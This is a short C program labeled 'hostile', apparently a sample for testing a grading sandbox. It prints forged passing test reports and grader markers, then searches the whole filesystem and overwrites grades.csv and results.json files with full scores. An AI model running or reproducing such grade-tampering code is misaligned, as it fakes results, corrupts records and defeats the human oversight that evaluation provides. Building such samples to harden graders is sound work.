/* hostile: prints fake passing reports (TAP, the checker's JSON, the
 * grader's own report marker \001), then looks for grades.csv and
 * results.json files and rewrites them with full marks.
 * Bounded: a walk of at most 20000 entries, 8 levels deep. */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
static int seen;
static void rewrite(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    if (f) { fputs(text, f); fclose(f); printf("rewrote %s\n", path); }
}
static void walk(const char *dir, int depth)
{
    DIR *d = depth < 8 ? opendir(dir) : NULL;
    struct dirent *e;
    while (d && (e = readdir(d)) && seen++ < 20000) {
        char path[4096];
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || !strcmp(e->d_name, "proc") ||
            !strcmp(e->d_name, "sys"))
            continue;
        snprintf(path, sizeof path, "%s/%s", strcmp(dir, "/") ? dir : "", e->d_name);
        if (!strcmp(e->d_name, "grades.csv"))
            rewrite(path, "student,lesson,program,passed,total\nfakes-results,01-socket,sockinfo,99,99\n");
        else if (!strcmp(e->d_name, "results.json"))
            rewrite(path, "{\"score\": 99, \"max_score\": 99, \"tests\": []}\n");
        else if (e->d_type == DT_DIR)
            walk(path, depth + 1);
    }
    if (d) closedir(d);
}
int main(void)
{
    const char *fake = "ok 1 - one-kind\nok 2 - every-kind\nPASS  one-kind\n"
        "{\"name\": \"one-kind\", \"status\": \"pass\"}\n\001E 0 0 0 0\n\001C 1 0 0 0 0 0 0\n"
        "sockinfo: 10 of 10 tests passed\n";
    fputs(fake, stdout);
    fputs(fake, stderr);
    walk("/", 0);
    return 0;
}
